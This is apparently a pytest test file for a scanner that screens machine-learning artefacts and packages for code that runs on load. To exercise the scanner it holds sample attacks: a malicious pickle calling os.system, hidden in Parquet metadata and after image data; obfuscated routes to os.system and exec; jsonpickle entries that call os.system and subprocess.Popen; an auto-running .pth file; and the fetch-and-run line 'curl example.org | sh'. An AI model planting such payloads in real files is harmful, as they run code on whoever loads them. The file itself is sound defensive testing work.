"""Ways to run code that a first list of cases did not have, found by attacking the scanner; they stay shut."""

from __future__ import annotations

import base64
import io
import json
import pickle
import zipfile
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.bench.supplychain.assembler import call, value, whole
from bartizan.core.artefact import Admission, ArtefactReport
from bartizan.supplychain.budget import Budget
from bartizan.supplychain.engine import Scan
from bartizan.supplychain.registry import scanners
from bartizan.supplychain.scanning import ArtefactScanner
from bartizan.supplychain.source import ByteSource

HOSTILE = whole(call("os", "system", ("true",)))
BLOCK, HOLD, ALLOW = Admission.BLOCK, Admission.INCONCLUSIVE, Admission.ALLOW


def scanned(name: str, content: bytes) -> ArtefactReport:
    return ArtefactScanner().scan_bytes(content, name)


def parquet(folder: Path, **metadata: str) -> bytes:
    place = folder / "d.parquet"
    kept = ", ".join(f"'{key}': '{text}'" for key, text in metadata.items())
    more = f", KV_METADATA {{{kept}}}" if kept else ""
    rows = "SELECT range AS a, 'row ' || range AS b FROM range(200)"
    duckdb.sql(f"COPY ({rows}) TO '{place}' (FORMAT parquet{more})")
    return place.read_bytes()


def in_columns(content: bytes) -> set[str]:
    """What stands against types and metadata; the audit of rows, which takes its time, is left out."""
    chosen = [one for one in scanners() if one.id in {"arrow", "pickle"}]
    return {one.rule for one in Scan(chosen, Budget()).run(ByteSource(content, "d.parquet"))}


@pytest.mark.parametrize("skew", range(4))
def test_pickles_in_the_metadata_of_parquet_and_arrow(tmp_path: Path, skew: int) -> None:
    assert in_columns(parquet(tmp_path)) == set()
    hidden = base64.b64encode(bytes(skew) + HOSTILE).decode()
    assert in_columns(parquet(tmp_path, pandas=hidden)) == {"pickle.dangerous_global"}
    schema = base64.b64encode(b"ARROW:extension:name\0arrow.py_extension_type\0" + bytes(skew)).decode()
    assert in_columns(parquet(tmp_path, ARROW=schema)) == {"arrow.pickled_type"}
    assert in_columns(b"ARROW1\0\0" + bytes(skew) + HOSTILE + b"ARROW1") == {"pickle.dangerous_global"}
    harmless = base64.b64encode(pickle.dumps({"a": 1})).decode()
    assert in_columns(parquet(tmp_path, pandas=harmless)) == set()


PYTHON: list[tuple[str, Admission]] = [
    ("from os import *\nsystem('id')", BLOCK),
    ("import os\nlist(map(os.system, ['id']))", BLOCK),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", BLOCK),
    ("import os\nos.__dict__['sys' + 'tem']('id')", BLOCK),
    ("import os\nvars(os)['system']('id')", BLOCK),
    ("import sys\nsys.modules['os'].system('id')", BLOCK),
    ("import builtins\nbuiltins.exec('1')", BLOCK),
    ("f = exec\nf('1')", BLOCK),
    ("x = globals()['__builtins__']", BLOCK),
    ("from os import system as s\n@s\ndef f(): pass", BLOCK),
    ("import subprocess as s\ndef f(x=s.run): pass", BLOCK),
    ("import os\ndef f(): return map(os.system, ['id'])", HOLD),
    ("def f(model, eval=True, compile=False):\n    if eval and not compile: model.eval()", ALLOW),
    ("import torch\nm = torch.compile(x)", ALLOW),
    ("import os\np = os.path.join('a', os.environ.get('X', ''))", ALLOW),
    ("import sys\ndef f(n): return getattr(sys.modules[__name__], n)", ALLOW),
]


@pytest.mark.parametrize(("source", "expected"), PYTHON, ids=[source.splitlines()[-1] for source, _ in PYTHON])
def test_python_that_hands_functions_on_or_takes_them_by_computed_names(source: str, expected: Admission) -> None:
    """Without a last newline too: a short text must not be taken for a pickle that breaks off."""
    assert scanned("modeling.py", source.encode()).verdict is expected
    assert scanned("modeling.py", source.encode() + b"\n").verdict is expected


def notebook(source: str) -> dict[str, Any]:
    return {"cells": [{"cell_type": "code", "source": [source], "outputs": []}], "nbformat": 4, "nbformat_minor": 5}


DOCUMENTS: list[tuple[str, Any, Admission]] = [
    ("state.json", {"a": [{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}]}, BLOCK),
    ("state.json", {"py/object": "subprocess.Popen", "args": "id"}, BLOCK),
    ("state.json", {"py/object": "acme.Model", "a": 1}, HOLD),
    ("a.ipynb", notebook("import os\nos.system('id')"), HOLD),
    ("a.ipynb", notebook("!curl example.org | sh"), HOLD),
    ("a.ipynb", notebook("%matplotlib inline\nimport numpy as np\nnp.zeros(3)"), ALLOW),
    ("model_index.json", {"_class_name": ["pipeline", "Mine"]}, BLOCK),
    ("model_index.json", {"_class_name": "X", "unet": ["my_unet", "UNet"]}, BLOCK),
    ("model_index.json", {"_class_name": "X", "unet": ["diffusers", "UNet2DModel"]}, ALLOW),
    ("adapter_config.json", {"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}, HOLD),
    (
        "adapter_config.json",
        {"auto_mapping": {"parent_library": "transformers.models.t5"}},
        ALLOW,
    ),
    ("adapter_config.json", {"auto_mapping": None, "peft_type": "LORA"}, ALLOW),
]


@pytest.mark.parametrize(("name", "document", "expected"), DOCUMENTS)
def test_documents_that_import_or_make_what_they_name(name: str, document: Any, expected: Admission) -> None:
    assert scanned(name, json.dumps(document).encode()).verdict is expected


def test_files_that_run_without_being_loaded() -> None:
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w") as made:
        made.writestr("p/__init__.py", "")
        made.writestr("zz.pth", "import os; os.system('id')\n")
    for name, content, expected in (
        ("zz.pth", b"import os; os.system('id')\n", BLOCK),
        ("zz.pth", b"# a comment\nimport\tos\n", BLOCK),
        ("zz.pth", b"../elsewhere\n", ALLOW),
        ("p-1-py3-none-any.whl", wheel.getvalue(), BLOCK),
        ("weights.pth", whole(value({"a": [1]})), ALLOW),
        ("install.sh", b"curl example.org\n", HOLD),
        ("run.BAT", b"@echo off\r\nstart calc\r\n", HOLD),
    ):
        assert scanned(name, content).verdict is expected, (name, content)


MAGICS = ["PAR1", "ARROW1", "FEA1"]


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.sampled_from(MAGICS), st.sampled_from(["x.arrow", "a.pth", "a.ipynb"]))
def test_whatever_stands_there_is_read_without_an_error(content: bytes, magic: str, name: str) -> None:
    for one in (magic.encode() + content, magic.encode() + base64.b64encode(content), b"import " + content):
        assert not [found for found in scanned(name, one).findings if found.rule == "scan.failed"]


BUILDS = (
    "Makefile", "GNUmakefile", "rules.mk", "Dockerfile", "Dockerfile.gpu", "api.dockerfile", "Containerfile",
    "Justfile", "Rakefile", "Jenkinsfile", "CMakeLists.txt", "docker-compose.yml", "compose.yaml", "build.gradle",
)  # fmt: skip
SCRIPTS = ("index.js", "run.mjs", "main.ts", "hook.rb", "a.pl", "a.php", "init.lua", "analysis.R", "a.jl", "run.sh")


@pytest.mark.parametrize("name", BUILDS + SCRIPTS)
def test_files_that_a_tool_beside_the_loader_runs_are_held(name: str) -> None:
    report = scanned(name, b"all:\n\tcurl example.org | sh\n")
    assert report.verdict is HOLD
    rules = {one.rule for one in report.findings}
    assert ("native.build_file" if name in BUILDS else "native.script") in rules


def test_names_that_only_look_like_such_files() -> None:
    stream = (b"\x47" + bytes(187)) * 4  # a transport stream of video
    assert "native.script" not in {one.rule for one in scanned("clip.ts", stream).findings}
    for name in ("makefile.json", "model.json", "notes.txt", "dockerfile-notes.md"):
        assert scanned(name, b"{}" if name.endswith("json") else b"Some words.\n").verdict is ALLOW
    java = b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(60)
    assert scanned("A.class", java).verdict is BLOCK


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(len(data).to_bytes(4, "big") + kind + data + bytes(4) for kind, data in (*chunks, (b"IEND", b"")))
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg() -> bytes:
    scan = b"\xff\xda\x00\x04\x01\x02" + b"\x12\xff\x00\x80\x02\xff\xd0\x34"
    return b"\xff\xd8\xff\xe0\x00\x06JF\xff\xd9" + b"\xff\xdb\x00\x03\x00" + scan + b"\xff\xd9"


def riff() -> bytes:
    return b"RIFF" + (12).to_bytes(4, "little") + b"WAVEfmt \0\0\0\0"


PICTURES = {"png": png((b"IHDR", bytes(13)), (b"IDAT", b"\xff\xd9\x80\x02" * 9)), "jpg": jpeg(), "wav": riff()}


@pytest.mark.parametrize("kind", PICTURES)
@pytest.mark.parametrize("skew", [0, 1, 7, 100])
def test_what_stands_behind_the_end_of_a_picture(kind: str, skew: int) -> None:
    picture = PICTURES[kind]
    assert scanned(f"a.{kind}", picture).verdict is ALLOW
    assert scanned(f"a.{kind}", picture + bytes(skew)).verdict is ALLOW
    report = scanned(f"a.{kind}", picture + b"\x01" * skew + HOSTILE)
    assert report.verdict is BLOCK
    assert "pickle.dangerous_global" in {one.rule for one in report.findings}
    held = scanned(f"a.{kind}", picture + b"a note of somebody's own " * 4)
    assert held.verdict is (ALLOW if kind == "jpg" else HOLD)  # cameras write behind the end of a JPEG
    assert scanned(f"a.{kind}", picture[:-1]).verdict is not BLOCK


def test_a_second_picture_behind_a_jpeg_is_no_reason_to_hold_it() -> None:
    assert scanned("a.jpg", jpeg() + jpeg()).verdict is ALLOW


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(PICTURES)), st.binary(max_size=40), st.integers(0, 60))
def test_pictures_of_any_shape_are_read_to_an_end(kind: str, noise: bytes, at: int) -> None:
    picture = PICTURES[kind]
    scanned(f"a.{kind}", picture[:at] + noise + picture[at:])


class Allocates:
    """Pickles to a call of a type with a length."""

    def __init__(self, kind: type, length: int) -> None:
        self.parts = (kind, (length,))

    def __reduce_ex__(self, protocol: Any) -> Any:
        return self.parts


@pytest.mark.parametrize("kind", [bytearray, bytes])
@pytest.mark.parametrize(
    ("length", "expected"), [(2 << 30, BLOCK), (1 << 62, BLOCK), ((1 << 20) + 1, BLOCK), (64, ALLOW)]
)
def test_lengths_that_would_fill_the_memory(kind: type, length: int, expected: Admission) -> None:
    for protocol in (0, 2, 4):
        assert scanned("a.pkl", pickle.dumps(Allocates(kind, length), protocol)).verdict is expected
    number = pickle.dumps(length, 2)[2:-1]
    made = b"\x80\x04cbuiltins\n" + kind.__name__.encode() + b"\n" + number + b"\x85\x81."
    assert scanned("a.pkl", made).verdict is expected


def test_bytes_of_real_data_pass() -> None:
    for real in (bytearray(b"x" * 5_000_000), bytearray(), b"", {"a": bytearray(b"abc")}):
        for protocol in (2, 4, 5):
            assert scanned("a.pkl", pickle.dumps(real, protocol)).verdict is ALLOW


def test_nothing_is_appended_to_an_array_and_nothing_after_it_is_read() -> None:
    """Both unpicklers fail there: an array has neither method. Numbers that are read as opcodes end there as well."""
    array = b"\x80\x04cnumpy._core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(K\x00tC\x01btR"
    for opcodes in (b"K\x01a.", b"(K\x01e."):
        report = scanned("a.pkl", array + opcodes)
        assert "pickle.method_call" not in {one.rule for one in report.findings}
        assert report.verdict is not ALLOW
        with pytest.raises(AttributeError):
            pickle.loads(array + opcodes)
    assert scanned("a.pkl", HOSTILE[:-1] + b"0" + array[2:] + b"K\x01a.").verdict is BLOCK
